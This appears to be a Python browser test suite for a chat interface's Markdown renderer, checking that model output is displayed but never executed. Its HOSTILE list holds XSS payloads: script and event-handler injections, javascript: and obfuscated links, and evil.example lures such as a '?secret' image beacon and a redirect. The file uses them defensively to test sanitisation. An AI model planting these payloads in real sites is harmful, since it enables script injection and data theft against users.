"""What a model writes, on the page in a real Chromium: shown as Markdown, never run, and made once."""

from __future__ import annotations

import asyncio
import random

import pytest
from support.browser import chromium, expect, visiting

from ws_chat.testing import DONE, Reply, Wait, chunk, sse, text

pytestmark = pytest.mark.anyio

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](vbscript:x) [y](/v1/chat/ws) [z](//evil.example/x)",
    "![x](javascript:window.hacked=1)",
    "![x](https://evil.example/pixel.png?secret)",
    '![x](https://evil.example/a.png" onerror="window.hacked=1)',
    '[x](https://evil.example/" onclick="window.hacked=1)',
    "<https://evil.example/'onmouseover='window.hacked=1>",
    "```html\n<script>window.hacked = 1</script>\n```",
    '```"><script>window.hacked=1</script>\ncode\n```',
    "```__proto__\ncode\n```",
    "| a |\n|---|\n| <script>window.hacked=1</script> |",
    "- <style>* { display: none }</style>",
    "<form action=https://evil.example><input name=q></form><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x]: javascript:window.hacked=1\n\n[x]",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62; &__proto__; &constructor; &#x110000; &#0;",
    "<details open ontoggle=window.hacked=1>",
    "</div></article></main><script>window.hacked=1</script>",
]
TAGS = {"ARTICLE", "H2", "H3", "H4", "H5", "H6", "DIV", "P", "DETAILS", "SUMMARY", "BUTTON", "SPAN", "FOOTER", "FIGURE"}
TAGS |= {"FIGCAPTION", "PRE", "CODE", "A", "UL", "OL", "LI", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"}
TAGS |= {"svg", "use", "STRONG", "EM", "DEL", "BR", "HR", "BLOCKQUOTE", "INPUT"}
ATTRIBUTES = {"class", "href", "title", "target", "rel", "type", "hidden", "tabindex", "role", "aria-label", "start"}
ATTRIBUTES |= {
    "disabled",
    "checked",
    "data-state",
    "data-empty",
    "data-told",
    "open",
    "dir",
    "title",
    "aria-expanded",
    "aria-hidden",
    "data-live",
}
MARKDOWN = """# Title

A *paragraph* with **strong**, `code`, [a link](https://example.com), [one](#) by [name], and &lt;entities&amp;.
A second line\\
and a third  \r
with a CRLF.\r\n\r\n
Setext
======

1. one
2. two
   - nested `x`

     loose
3. three

* * *

- [ ] open
- [x] done

> quoted
> - list

```python
def f(x):
    return "<b>"  # ``` not the end

```

~~~
plain
~~~

| a | b |
|:--|--:|
| 1 | 2<br>3 |

[name]: https://example.com/name

By [name] again, ~~gone~~. <b>html</b>

    indented

The end"""


@pytest.fixture(scope="module")
async def browser(anyio_backend):
    async with chromium() as started:
        yield started


async def test_nothing_that_a_model_writes_is_run(service, fake, browser):
    everything = "\n\n".join(HOSTILE)
    call = {"index": 0, "id": "c", "type": "function", "function": {"name": HOSTILE[1], "arguments": HOSTILE[2]}}
    deltas = [{"reasoning_content": everything}, {"content": everything}, {"tool_calls": [call]}]
    steps = [sse(chunk(delta)) for delta in deltas]
    fake.reply([*steps, sse({"error": {"message": everything, "type": "server_error"}})])
    async with visiting(browser, service.url) as tab:
        active = tab.page.locator("script, img, iframe, style, base, form, meta, svg:not(.icon)")
        before = await active.count()
        await tab.choose_model(HOSTILE[1])
        await tab.ask(everything)
        await tab.is_in("failed")
        await tab.press("Inspect")
        await tab.page.get_by_role("tab", name="Frames").click()
        await tab.page.locator("#frames summary").first.click()
        await tab.turns.locator("summary").click()
        found = await tab.page.locator("#turns *").evaluate_all(
            "all => all.map((one) => [one.tagName, one.getAttributeNames(), one.getAttribute('href')])"
        )
        for tag, attributes, href in found:
            assert tag in TAGS
            assert set(attributes) <= ATTRIBUTES
            assert href is None or href.startswith(("https://", "http://", "mailto:", "#i-"))
        assert await active.count() == before
        for piece in ("<script>window.hacked = 1</script>", "<svg/onload=window.hacked=1>", "&constructor;"):
            await expect(tab.text).to_contain_text(piece)
        for link in await tab.text.locator("a").all():
            await link.dispatch_event("mouseover")
        assert await tab.page.evaluate("window.hacked") is None


async def test_fields_of_any_type_are_passed_over(service, fake, browser):
    odd = [5, True, ["a"], {"text": "b"}]
    deltas = [{name: value} for name in ("content", "refusal", "reasoning_content", "tool_calls") for value in odd]
    calls = [{"tool_calls": [None, 5, "f", {"function": "g"}, {"function": {"name": 7, "arguments": 8}}]}]
    end = {"choices": [], "usage": "many", "model": ["m"]}
    fake.reply(
        [
            *(sse(chunk(delta)) for delta in [*deltas, *calls]),
            *text("The ", "end", usage=False, done=False),
            sse(end),
            DONE,
        ]
    )
    async with visiting(browser, service.url) as tab:
        await tab.press("Inspect")
        await tab.page.get_by_role("tab", name="Frames").click()
        await tab.ask("hi")
        await tab.is_in("completed")
        await tab.says("The end")
        await tab.page.reload()
        await tab.says("The end")


async def test_no_script_can_make_html_of_a_text(service, browser):
    async with visiting(browser, service.url, complains=True) as tab:
        refused = await tab.page.evaluate("""() => {
          const tries = [
            () => document.body.insertAdjacentHTML("beforeend", "<b>hi</b>"),
            () => new Worker("/static/page/worker.js"),
            () => trustedTypes.createPolicy("worker", { createHTML: (text) => text }),
            () => trustedTypes.createPolicy("another", { createHTML: (text) => text }),
          ];
          return tries.map((attempt) => { try { return attempt() } catch (error) { return error.name } });
        }""")
        assert refused == ["TypeError"] * 4


async def test_it_is_the_same_however_it_comes(service, browser):
    """Any split of a text gives the same elements as the whole of it."""
    chance = random.Random(11)
    texts = [MARKDOWN] + ["".join(chance.choice("ab*_`~[]()#->|1.\n\n\r \t<&") for _ in range(200)) for _ in range(20)]
    splits = [sorted(chance.sample(range(len(text)), 9)) for text in texts]
    # Where what begins a line looks like another block until the line is whole.
    tricky = ["one\n```a`b\ntwo", "one\n1.two\n- - x\nthree", "a|b\n-|-\n1|2\n\n- x\n\n  y\n#z\n===\n\n```js\nx\n```"]
    tricky.append(FORMULAS)
    texts += tricky
    splits += [list(range(1, len(text))) for text in tricky]
    async with visiting(browser, service.url) as tab:
        different = await tab.page.evaluate(
            """async ([texts, splits]) => {
              const { Typing } = await import("/static/page/typing.js");
              const shown = async (text, ends) => {
                const place = document.createElement("div");
                const typing = new Typing(place, () => {});
                for (const end of ends) await typing.show(text.slice(0, end), false);
                await typing.show(text, true);
                for (const math of place.querySelectorAll(".math")) math.textContent = math.dataset.source;
                return place.innerHTML.replaceAll(/<span class="c-[^>]*>|<\\/span>/g, "");
              };
              await shown(texts[0], []);
              const found = [];
              for (const [place, text] of texts.entries()) {
                const [whole, pieces] = [await shown(text, []), await shown(text, splits[place])];
                if (whole !== pieces) found.push([text, splits[place], whole, pieces]);
              }
              return found;
            }""",
            [texts, splits],
        )
        assert not different, "\n".join(map(repr, different[0]))


async def test_markdown_is_made_into_elements(service, fake, browser):
    fake.reply(text(*(MARKDOWN[at : at + 7] for at in range(0, len(MARKDOWN), 7))))
    async with visiting(browser, service.url) as tab:
        await tab.ask("Everything, please")
        await tab.is_in("completed")
        for selector, count in {
            "h3": 2,
            "ol > li": 3,
            "li li": 1,
            "input[type=checkbox][disabled]": 2,
            "blockquote li": 1,
            "figure.code": 3,
            "th": 2,
            "td.right br": 1,
            'a[href="https://example.com/name"]': 2,  # the first is used before it is defined
            "del": 1,
            "hr": 1,
        }.items():
            await expect(tab.text.locator(selector)).to_have_count(count)
        await expect(tab.text.locator(".c-keyword").first).to_have_text("def")
        await expect(tab.text.locator("figure.code code").first).to_have_text(
            'def f(x):\n    return "<b>"  # ``` not the end\n'
        )
        await expect(tab.text).to_contain_text("<entities&. A second line".replace(". ", "."))


FORMULAS = r"""From $5 to $10, \( a^2 + b_1 \) and $x_1$ *em* $y_2$, and \(\frac{\).

\[
\int_0^1 x\,dx
= \sqrt{\pi}
\]

$$a \\ - b$$

- in a list: $\alpha$ `$x$`

$$
never ended

مرحبا **بالعالم**"""


async def test_formulas_are_set_and_those_that_cannot_be_are_left_as_they_are(service, fake, browser):
    fake.replies = [
        Reply(text(*FORMULAS)),
        Reply(text(r"$$\def\a{\a\a}\a$$", "\n\n$$\\kern9999em", "x$$\n\nEnd", r": \int f\,dx\;g, \*no list")),
    ]
    async with visiting(browser, service.url) as tab:
        await tab.ask("Formulas, please")
        await tab.is_in("completed")
        written = tab.text.locator("annotation")
        await expect(written).to_have_text(
            [" a^2 + b_1 ", "x_1", "y_2", "\n\\int_0^1 x\\,dx\n= \\sqrt{\\pi}\n", r"a \\ - b", r"\alpha"]
        )
        await expect(tab.text.locator("em")).to_have_text(["em"])
        await expect(tab.text.locator("p").first).to_contain_text("From $5 to $10, ")
        await expect(tab.text.locator(".math.plain")).to_have_text([r"\(\frac{\)"])
        await expect(tab.text.locator("code")).to_have_text(["$x$"])
        await expect(tab.text.locator(".katex-html").first).to_be_visible()
        assert await tab.page.evaluate("document.fonts.ready.then(() => document.fonts.check('1em KaTeX_Main'))")
        direction = "(one) => getComputedStyle(one).direction"
        assert [await one.evaluate(direction) for one in await tab.text.locator("p").all()][-2:] == ["ltr", "rtl"]
        await expect(tab.page.get_by_role("log", name="What was answered")).to_contain_text(r"\int_0^1 x\,dx")
        await tab.ask("And bad ones")
        await expect(tab.text).to_contain_text(r"End: \int f\,dx\;g, *no list")
        await expect(tab.text.locator(".math.plain")).to_have_text([r"$$\def\a{\a\a}\a$$"])
        assert await tab.page.locator("#thread").evaluate("(box) => box.scrollWidth <= box.clientWidth")


async def test_what_is_nested_too_deep_is_shown_as_it_is(service, fake, browser):
    deep = ["> " * 60 + "quoted", "*a _b " * 100 + "stressed" + "b_ a*" * 100, "- " * 60 + "listed"]
    fake.replies = [Reply(text("\n\n".join(deep))), Reply(text(">" * 20_000 + " deep"))]
    async with visiting(browser, service.url) as tab:
        await tab.ask("Dig")
        await tab.is_in("completed")
        for word in ("quoted", "stressed", "listed"):
            await expect(tab.text).to_contain_text(word)
        depth = await tab.text.evaluate("""(top) => {
          const deep = (one) => 1 + Math.max(0, ...[...one.children].map(deep));
          return deep(top);
        }""")
        assert 20 < depth < 60
        await tab.ask("Deeper")
        await tab.says(">" * 20_000 + " deep")


async def test_a_long_answer_is_read_after_a_refresh_as_well(service, fake, browser):
    """Then it comes in one piece. Only a block that is too long in itself is shown as it is."""
    long = "word *word* " * 20 + "\n\n"
    fake.reply(text(*[long] * 200, "*end*\n\n", "_a" * 30_000))
    async with visiting(browser, service.url) as tab:
        await tab.ask("A long one")
        await tab.is_in("completed")
        for _ in range(2):
            await expect(tab.text.locator("em")).to_have_count(20 * 200 + 1)
            await expect(tab.text.locator(".plain")).to_have_text("_a" * 30_000)
            await tab.page.reload()


async def test_text_that_takes_long_to_parse_is_shown_as_it_is(service, fake, browser):
    """Two texts that would hold the page up for a minute."""
    code = "word" * 12_000
    fake.replies = [Reply(text(f"```java\n{code}\n```")), Reply(text(*["*_a" * 3300 + "\n\n"] * 20, "The *end*."))]
    async with visiting(browser, service.url) as tab:
        await tab.ask("Some code")
        await expect(tab.text.locator("figure.code code")).to_have_text(code)
        await tab.ask("Something slow")
        await expect(tab.text.locator(".plain")).to_contain_text("The *end*.")
        await expect(tab.page.locator("figure.code span[class]")).to_have_count(0)


async def test_the_page_goes_on_while_the_worker_reads(service, browser):
    async with visiting(browser, service.url) as tab:
        results = await tab.page.evaluate("""async () => {
          const { Background } = await import("/static/page/background.js");
          const background = new Background(400);
          const job = background.run("read", { text: "*_a".repeat(3300), links: {}, ended: true });
          const after = background.run("read", { text: "*a*", links: {}, ended: true });
          let turns = 0;
          let ended = false;
          job.then(() => (ended = true));
          while (!ended) {
            await new Promise((resolve) => setTimeout(resolve, 0));
            turns += 1;
          }
          return [await job, (await after).blocks.length, turns > 5, await background.run("nothing", {})];
        }""")
        assert results == [None, 1, True, None]


async def test_a_finished_block_is_made_once(service, fake, browser):
    """However long an answer grows, what is done per token does not: elements are made for the open block only."""
    go = asyncio.Event()
    first = [f"Paragraph {number} of **some** words.\n\n" for number in range(20)]
    then = [f"{word} " for word in ["more"] * 300]
    head, *steps = text(*first, *then)
    fake.reply([head, *steps[: len(first)], Wait(go), *steps[len(first) :]])
    async with visiting(browser, service.url) as tab:
        await tab.ask("A long one")
        await expect(tab.text.locator("p")).to_have_count(20)
        await tab.text.evaluate("""(place) => {
          window.before = [...place.children].slice(0, -1);
        }""")
        go.set()
        await tab.is_in("completed")
        await expect(tab.text.locator("p")).to_have_count(21)
        assert await tab.text.evaluate("(place) => window.before.every((one, at) => place.children[at] === one)")
        made = await tab.page.evaluate(
            """async (text) => {
              const { Typing } = await import("/static/page/typing.js");
              const typing = new Typing(document.createElement("div"), () => {});
              const show = () => typing.show(text, false);
              await show();
              const make = document.createElement;
              let made = 0;
              document.createElement = (...given) => (made += 1, make.apply(document, given));
              for (let token = 0; token < 100; token += 1) {
                text += "more ";
                await show();
              }
              return made;
            }""",
            "".join(first),
        )
        assert made < 100 * 4, "the open paragraph, and the one before it"


async def test_a_selection_stays_while_it_types(service, fake, browser):
    go = asyncio.Event()
    head, first, *rest = text("- one\n- two", " and more\n- three")
    fake.reply([head, first, Wait(go), *rest])
    async with visiting(browser, service.url) as tab:
        await tab.ask("List")
        await expect(tab.text.locator("li")).to_have_count(2)
        await tab.page.evaluate("getSelection().selectAllChildren(document.querySelector('.answer li'))")
        go.set()
        await expect(tab.text.locator("li")).to_have_count(3)
        assert await tab.page.evaluate("getSelection().toString()") == "one"


async def test_a_scrolled_page_keeps_its_position(service, fake, browser):
    go = asyncio.Event()
    head, first, *rest = text("line\n\n" * 60, "more\n\n" * 10)
    fake.reply([head, first, Wait(go), *rest])
    async with visiting(browser, service.url) as tab:
        await tab.ask("Lines")
        await expect(tab.text.locator("p")).to_have_count(60)
        box = tab.page.locator("#thread")
        end = "(box) => box.scrollHeight - box.scrollTop - box.clientHeight"
        await box.evaluate("(box) => { box.scrollTop = 100 }")
        await expect(tab.page.get_by_role("button", name="Latest")).to_be_visible()
        go.set()
        await expect(tab.text.locator("p")).to_have_count(70)
        assert await box.evaluate("(box) => box.scrollTop") == 100
        await tab.page.get_by_role("button", name="Latest").click()
        assert await box.evaluate(end) < 2
